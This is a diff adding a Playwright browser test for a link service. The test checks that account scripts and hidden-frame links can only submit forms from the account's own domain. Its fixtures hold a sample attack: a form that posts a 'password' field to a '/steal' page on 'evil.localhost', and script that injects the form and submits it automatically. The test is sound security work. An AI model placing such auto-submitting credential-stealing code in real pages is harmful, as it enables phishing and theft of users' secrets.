@@ -1,0 +1,83 @@
+"""What an account's script or hidden destination can do in real Chromium, by the host of the link."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page
+
+from tests.browser.product import Product
+from tests.browser.servers import Pages
+
+MAKE = """
+import json, sys, django
+django.setup()
+from accounts.custom_domains.services import host_provision
+from accounts.models import Account
+from links.belongings import domain_create, script_write
+from links.services import datapoint_create
+destination, script = json.loads(sys.argv[1])
+account = Account.objects.get()
+own = domain_create(account=account, name="own.localhost")
+host_provision(account=account, host="own.localhost", purpose="links")
+snippet = script_write(account=account, name="s", text=script)
+for domain, name in ((None, "shared"), (own, "own")):
+    datapoint_create(account=account, domain=domain, alias=name + "-script", url=destination, scripts=[snippet])
+    datapoint_create(account=account, domain=domain, alias=name + "-frame", url=destination + "-form", hide_url=True)
+"""
+FORM = "<form method='post' action='{steal}'><input name='password' value='secret'></form>"
+SENT = "document.forms[0].submit()"
+
+
+@pytest.fixture(scope="module")
+def product() -> Iterator[Product]:
+    fresh = Product()
+    fresh.settings["LINK_DOMAIN"] = f"go.localhost:{fresh.port}"
+    fresh.start()
+    yield fresh
+    fresh.remove()
+
+
+@pytest.fixture
+def stolen(product: Product, pages: Pages) -> list[str]:
+    """What forms sent to the stranger's page. Links with a script and a frame that send one lie on both domains."""
+    form = FORM.format(steal=pages.url("/steal", "evil.localhost"))
+    script = f"document.body.insertAdjacentHTML('beforeend', {json.dumps(form)}); {SENT}"
+    pages.html["/landing"] = "<title>Landing</title>"
+    pages.html["/landing-form"] = f"<title>Form</title>{form}<script>{SENT}</script>"
+    pages.html["/steal"] = "<title>Thank you</title>"
+    seen: list[str] = []
+
+    def noted(method: str, path: str, query: str, headers: object) -> None:
+        if path == "/steal":
+            seen.append(method)
+
+    pages.upstream = noted
+    product.provision("shop.localhost")
+    product.command("-c", MAKE, json.dumps([pages.url("/landing", "shop.localhost"), script]))
+    return seen
+
+
+def test_a_form_is_sent_from_ones_own_domain_and_from_no_other(
+    page: Page, product: Product, pages: Pages, stolen: list[str]
+) -> None:
+    page.wait_for_timeout(2500)
+    shared = f"http://go.localhost:{product.port}"
+    page.goto(f"{shared}/shared-script")
+    page.wait_for_url("**/landing*")
+    assert stolen == []
+    page.goto(f"{shared}/shared-frame")
+    page.wait_for_timeout(1000)
+    assert page.frames[1].title() == "Form" and page.url == f"{shared}/shared-frame" and stolen == []
+    page.goto(f"{product.url}/l/shared-script")  # on the dashboard's host: a plain redirect
+    assert "/landing" in page.url and stolen == []
+    page.goto(f"{product.url}/l/shared-frame")
+    page.wait_for_url("**/steal*")  # the stranger's page itself, under its own name
+    assert f":{product.port}" not in page.url
+    stolen.clear()
+    for alias in ("own-script", "own-frame"):
+        page.goto(f"http://own.localhost:{product.port}/{alias}")
+        page.wait_for_timeout(1500)
+    assert stolen == ["POST", "POST"]
